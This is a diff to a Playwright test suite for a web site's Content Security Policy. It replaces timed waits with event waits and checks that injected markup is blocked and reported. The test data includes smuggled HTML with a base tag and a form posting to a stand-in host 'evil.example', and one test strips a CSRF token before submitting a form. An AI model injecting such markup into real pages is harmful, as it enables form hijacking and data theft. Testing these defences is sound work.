@@ -3,6 +3,7 @@
 from urllib.parse import urlsplit
 
 import pytest
+from playwright.sync_api import expect
 
 from tests.browser.content import ADMIN
 from tests.browser.entering import sign_in
@@ -91,8 +92,9 @@ def test_t89_gallery_video_easy_mode_and_print_need_nothing_more(site, reader):
     film = reader.locator("video").first
     film.evaluate("film => { film.muted = true; return film.play() }")
     assert film.evaluate("film => !film.error && film.readyState >= 1")
-    assert reader.locator("svg.chart, .chart svg").first.is_visible()
+    expect(reader.locator("svg.chart, .chart svg").first).to_be_visible()
     reader.emulate_media(media="print")
+    expect(reader.locator("svg.qr").first).to_be_visible()
     assert reader.locator("svg.qr").first.bounding_box()["width"] > 20
     faults += stopped(reader)
     assert not faults + reader.watch.faults
@@ -110,10 +112,11 @@ def test_t89_error_pages_and_a_document(site, reader):
     # A form without its token.
     reader.watch.expected.add(f"{site.base}/interact/open/")
     reader.goto("/interact/open/")
-    reader.evaluate(
-        """() => { const form = document.querySelector("form[method=post]"); form.noValidate = true;
-        form.querySelector("[name=csrfmiddlewaretoken]").remove(); HTMLFormElement.prototype.submit.call(form) }"""
-    )
+    with reader.expect_event("load"):
+        reader.evaluate(
+            """() => { const form = document.querySelector("form[method=post]"); form.noValidate = true;
+            form.querySelector("[name=csrfmiddlewaretoken]").remove(); HTMLFormElement.prototype.submit.call(form) }"""
+        )
     reader.get_by_role("heading", name="没有提交成功").wait_for()
     faults += stopped(reader)
     reader.goto(site.pages["news_piece"])
@@ -149,6 +152,7 @@ SMUGGLED = (
     "<base href=https://evil.example/>"
     "<form action=https://evil.example/ id=steal><button>x</button></form>"
 )
+STOPPED = ("script-src-elem", "script-src-attr", "style-src-elem", "frame-src", "base-uri")
 
 
 def smuggle(page, base: str, path: str, *, keep_policy: bool = True) -> list[str]:
@@ -179,11 +183,12 @@ def test_t89_what_was_smuggled_into_a_page_does_not_run(site, reader):
     assert reader.locator("h1").first.evaluate("node => getComputedStyle(node).color") != "rgb(1, 2, 3)"
     assert reader.evaluate("document.baseURI").startswith(site.base)
     reader.evaluate("document.getElementById('steal').submit()")
-    reader.wait_for_timeout(300)
+    # What was stopped before is in the list by then.
+    reader.wait_for_function("() => window.stopped.some(found => found.startsWith('form-action '))")
     assert asked == []
     assert urlsplit(reader.url).hostname == "127.0.0.1"
     found = " ".join(stopped(reader))
-    for directive in ("script-src-elem", "script-src-attr", "style-src-elem", "frame-src", "base-uri", "form-action"):
+    for directive in (*STOPPED, "form-action"):
         assert directive in found
 
 
@@ -196,8 +201,12 @@ def test_t89_without_the_policy_it_would(site, reader):
 
 def test_t89_a_violation_is_told_to_us_in_one_line_without_the_query(site, reader):
     smuggle(reader, site.base, "/rights/?kind=case")
-    reader.wait_for_timeout(1000)
-    lines = [line for line in site.log.read_text().splitlines() if "Content policy:" in line and "/rights/" in line]
+    # The browser sends its reports when it has the time.
+    for _try in range(300):
+        lines = [line for line in site.log.read_text().splitlines() if "Content policy:" in line and "/rights/" in line]
+        if all(any(f" {directive} " in line for line in lines) for directive in STOPPED):
+            break
+        reader.wait_for_timeout(100)
     assert f"Content policy: script-src-elem blocked inline on {site.base}/rights/" in lines
     assert not [line for line in lines if "kind=" in line]
 
@@ -211,7 +220,7 @@ def test_t89_the_bar_of_signed_in_staff_works_under_the_public_policy(site, desk
     desk.locator("wagtail-userbar").wait_for(state="attached")
     desk.locator("#wagtail-userbar-trigger").click()
     desk.locator("#wagtail-userbar-items").wait_for()
-    assert desk.locator("#wagtail-userbar-items a[href$='/edit/']").first.is_visible()
+    expect(desk.locator("#wagtail-userbar-items a[href$='/edit/']").first).to_be_visible()
     assert not stopped(desk) + desk.watch.faults
 
 
